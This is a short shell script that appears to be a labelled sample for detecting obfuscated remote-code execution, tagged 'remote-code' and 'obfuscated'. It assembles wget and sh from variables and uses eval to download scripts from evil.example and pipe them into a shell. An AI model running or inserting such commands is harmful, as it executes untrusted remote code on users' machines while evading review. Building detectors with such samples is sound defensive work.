# description: Runs a downloaded script by building the downloader and interpreter from variables and eval.
# family: remote-code
# obfuscated: yes
set -uo pipefail

d=wget
o="-qO-"
h=evil.example
i=s; i+=h
eval "$d $o http://$h/patch.sh | $i"
timeout 60 env $d $o "http://$h/post.sh" | xargs -0 bash -c
